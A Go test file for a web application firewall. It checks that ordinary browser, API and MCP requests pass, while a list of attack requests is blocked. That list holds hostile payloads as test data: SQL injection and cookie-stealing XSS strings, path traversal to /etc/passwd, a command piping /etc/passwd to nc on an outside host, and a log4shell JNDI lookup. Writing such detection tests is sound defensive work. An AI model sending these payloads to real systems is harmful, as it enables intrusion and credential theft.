package waf

import (
	"bytes"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"strings"
	"sync"
	"testing"
)

// caller is the client every test request comes from.
var caller = Client{IP: netip.MustParseAddr("203.0.113.7"), Port: 40000}

var localhost = netip.MustParseAddr("127.0.0.1")

// pool holds the engines the tests share, by key: compiling the CRS is what takes their time.
var pool = struct {
	sync.Mutex
	engines map[string]*Engine
}{engines: map[string]*Engine{}}

// newEngine returns the engine of c. It is shared and never closed before the tests end.
func newEngine(t testing.TB, c Config) *Engine {
	t.Helper()
	pool.Lock()
	defer pool.Unlock()
	key := c.Key()
	if e, ok := pool.engines[key]; ok {
		return e
	}
	e, err := New(c, nil)
	if err != nil {
		t.Fatal(err)
	}
	pool.engines[key] = e
	return e
}

func TestMain(m *testing.M) {
	code := m.Run()
	for _, e := range pool.engines {
		if err := e.Close(); err != nil {
			fmt.Fprintln(os.Stderr, err)
			code = 1
		}
	}
	os.Exit(code)
}

// browser returns a request with the headers of an ordinary browser.
func browser(method, target, contentType, body string) *http.Request {
	var from io.Reader
	if body != "" {
		from = strings.NewReader(body)
	}
	r := httptest.NewRequest(method, target, from)
	r.Host = "app.example.com"
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36")
	r.Header.Set("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8")
	r.Header.Set("Accept-Language", "en-GB,en;q=0.9")
	r.Header.Set("Accept-Encoding", "gzip, deflate, br, zstd")
	r.Header.Set("Sec-Ch-Ua", `"Chromium";v="139", "Not;A=Brand";v="99"`)
	r.Header.Set("Sec-Fetch-Mode", "navigate")
	r.Header.Set("Cookie", "session=5f2b0c7e9a; theme=dark")
	if contentType != "" {
		r.Header.Set("Content-Type", contentType)
	}
	return r
}

// with sets one header.
func with(r *http.Request, name, value string) *http.Request {
	r.Header.Set(name, value)
	return r
}

// upload returns a multipart request with one field and one file.
func upload(file string) *http.Request {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	_ = w.SetBoundary("----WebKitFormBoundary7MA4YWxkTrZu0gW")
	_ = w.WriteField("title", "Quarterly report")
	part, _ := w.CreateFormFile("document", "report.txt")
	_, _ = io.WriteString(part, file)
	_ = w.Close()
	return browser("POST", "/upload", w.FormDataContentType(), b.String())
}

// chunked hides the length of a body from net/http.
func chunked(r *http.Request) *http.Request {
	r.ContentLength = -1
	r.TransferEncoding = []string{"chunked"}
	return r
}

const prose = `{"messages":[{"role":"system","content":"You are a helpful assistant. Answer in short sentences."},` +
	`{"role":"user","content":"Please summarise yesterday's meeting: we agreed to ship on Friday, and Anna will write the release notes."}],` +
	`"temperature":0.2,"stream":true}`

const mcpCall = `{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"get_weather","arguments":{"city":"Paris","unit":"celsius"}}}`

// benign are requests that must pass at the defaults.
var benign = []struct {
	name string
	make func() *http.Request
}{
	{"browser page", func() *http.Request { return browser("GET", "/products?page=2&sort=price", "", "") }},
	{"curl", func() *http.Request {
		r := httptest.NewRequest("GET", "/health", nil)
		r.Header.Set("User-Agent", "curl/8.15.0")
		r.Header.Set("Accept", "*/*")
		return r
	}},
	{"curl by address", func() *http.Request {
		r := browser("GET", "/", "", "")
		r.Host = "192.0.2.10:8080"
		return r
	}},
	{"python client", func() *http.Request {
		r := browser("POST", "/v1/chat", "application/json", prose)
		r.Header.Set("User-Agent", "python-httpx/0.28.1")
		r.Header.Set("Accept", "*/*")
		r.Header.Set("Authorization", "Bearer 3f0c2a9b7d")
		return r
	}},
	{"json prose", func() *http.Request { return browser("POST", "/v1/chat", "application/json", prose) }},
	{"json with charset", func() *http.Request { return browser("POST", "/v1/chat", "application/json; charset=utf-8", prose) }},
	{"structured json type", func() *http.Request { return browser("POST", "/events", "application/cloudevents+json", prose) }},
	{"mcp call", func() *http.Request {
		return with(browser("POST", "/mcp", "application/json", mcpCall), "Accept", "application/json, text/event-stream")
	}},
	{"mcp session end", func() *http.Request { return with(browser("DELETE", "/mcp", "", ""), "Mcp-Session-Id", "b7e1") }},
	{"put", func() *http.Request {
		return browser("PUT", "/items/7", "application/json", `{"name":"lamp","price":12.5}`)
	}},
	{"patch", func() *http.Request {
		return browser("PATCH", "/items/7", "application/merge-patch+json", `{"price":11}`)
	}},
	{"form", func() *http.Request {
		return browser("POST", "/contact", "application/x-www-form-urlencoded", "name=Anna+Berg&message=Hello%2C+when+do+you+open+on+Monday%3F")
	}},
	{"multipart upload", func() *http.Request { return upload("Sales rose by four percent.\n") }},
	{"chunked json", func() *http.Request { return chunked(browser("POST", "/v1/chat", "application/json", prose)) }},
	{"announced upload", func() *http.Request {
		return with(browser("PUT", "/items/7", "application/json", `{"name":"lamp"}`), "Expect", "100-continue")
	}},
	{"event stream", func() *http.Request { return with(browser("GET", "/events", "", ""), "Accept", "text/event-stream") }},
	{"websocket handshake", func() *http.Request {
		r := browser("GET", "/socket", "", "")
		r.Header.Set("Connection", "Upgrade")
		r.Header.Set("Upgrade", "websocket")
		r.Header.Set("Sec-Websocket-Version", "13")
		r.Header.Set("Sec-Websocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")
		return r
	}},
	{"http/2", func() *http.Request {
		r := browser("GET", "/products", "", "")
		r.Proto, r.ProtoMajor, r.ProtoMinor = "HTTP/2.0", 2, 0
		return r
	}},
	{"websocket over http/2", func() *http.Request {
		r := browser("GET", "/socket", "", "")
		r.Method, r.Proto, r.ProtoMajor, r.ProtoMinor = http.MethodConnect, "HTTP/2.0", 2, 0
		r.Header[":protocol"] = []string{"websocket"}
		r.Body = io.NopCloser(neverReader{})
		return r
	}},
	{"head", func() *http.Request { return browser("HEAD", "/products", "", "") }},
	{"cors preflight", func() *http.Request {
		r := browser("OPTIONS", "/v1/chat", "", "")
		r.Header.Set("Origin", "https://app.example.com")
		r.Header.Set("Access-Control-Request-Method", "POST")
		return r
	}},
}

// neverReader stands for a body that waits for the response: reading it would hang a server.
type neverReader struct{}

func (neverReader) Read([]byte) (int, error) { panic("the body of a stream was read") }

const (
	sqli = `1' OR '1'='1' -- `
	xss  = `<script>alert(document.cookie)</script>`
)

// attacks are requests that must be refused at the defaults, each with one rule family that sees it.
var attacks = []struct {
	name string
	make func() *http.Request
	tag  string
}{
	{"sql injection in the query", func() *http.Request { return browser("GET", "/?q=1%27%20OR%20%271%27%3D%271%27%20--%20", "", "") }, "attack-sqli"},
	{"sql injection in json", func() *http.Request { return browser("POST", "/", "application/json", `{"a":{"b":["`+sqli+`"]}}`) }, "attack-sqli"},
	{"sql injection in structured json", func() *http.Request {
		return browser("POST", "/", "application/vnd.api+json", `{"a":"`+sqli+`"}`)
	}, "attack-sqli"},
	{"sql injection in a form", func() *http.Request {
		return browser("POST", "/", "application/x-www-form-urlencoded", "id=1%27+OR+%271%27%3D%271%27+--+")
	}, "attack-sqli"},
	{"sql injection in a header", func() *http.Request { return with(browser("GET", "/", "", ""), "User-Agent", "Mozilla/5.0 "+sqli) }, "attack-sqli"},
	{"sql injection in a cookie", func() *http.Request {
		return with(browser("GET", "/", "", ""), "Cookie", "id=1' UNION SELECT password FROM users -- ")
	}, "attack-sqli"},
	{"sql injection in xml", func() *http.Request {
		return browser("POST", "/", "application/xml", "<q><id>1' UNION SELECT password FROM users -- </id></q>")
	}, "attack-sqli"},
	{"sql injection in a multipart field", func() *http.Request {
		r := upload("x")
		b, _ := io.ReadAll(r.Body)
		return browser("POST", "/upload", r.Header.Get("Content-Type"), strings.Replace(string(b), "Quarterly report", sqli, 1))
	}, "attack-sqli"},
	{"xss in the query", func() *http.Request { return browser("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "") }, "attack-xss"},
	{"xss in json", func() *http.Request { return browser("POST", "/", "application/json", `{"a":"`+xss+`"}`) }, "attack-xss"},
	{"xss in a form", func() *http.Request {
		return browser("POST", "/", "application/x-www-form-urlencoded", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")
	}, "attack-xss"},
	{"xss in a header", func() *http.Request { return with(browser("GET", "/", "", ""), "Referer", "https://a.example/"+xss) }, "attack-xss"},
	{"scanner", func() *http.Request {
		return with(browser("GET", "/", "", ""), "User-Agent", "sqlmap/1.9#stable (https://sqlmap.org)")
	}, "attack-reputation-scanner"},
	{"path traversal", func() *http.Request { return browser("GET", "/read?file=../../../../etc/passwd", "", "") }, "attack-lfi"},
	{"shell command", func() *http.Request {
		return browser("POST", "/", "application/json", `{"cmd":"; cat /etc/passwd | nc 198.51.100.1 4444"}`)
	}, "attack-rce"},
	{"log4shell", func() *http.Request {
		return with(browser("GET", "/", "", ""), "X-Api-Version", "${jndi:ldap://198.51.100.1/a}")
	}, "attack-rce"},
	{"number that hangs php", func() *http.Request { return browser("GET", "/?i=2.2250738585072011e-308", "", "") }, "attack-sqli"},
	{"method of no api", func() *http.Request { return browser("TRACE", "/", "", "") }, "attack-generic"},
}
